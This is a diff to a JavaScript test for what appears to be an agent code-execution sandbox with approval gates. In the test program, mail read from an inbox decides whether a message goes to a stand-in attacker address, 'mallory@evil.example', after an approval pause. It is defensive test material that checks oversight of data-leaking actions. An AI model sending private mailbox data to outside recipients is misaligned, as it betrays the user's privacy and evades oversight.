@@ -434,8 +434,9 @@ describe('a program that waits for an approval', () => {
     };
     const code = `
       const mails = await tools.inbox({});
+      const has = String(mails[0].from) !== '';
       await tools.wait({});
-      await tools.tell({ to: 'mallory@evil.example' });`;
+      await tools.tell({ to: has ? 'mallory@evil.example' : '' });`;
     const paused = await create().session.execute('run_code', { code });
     const [approval] = pendingApprovalsOf(paused);
     const continued = create();
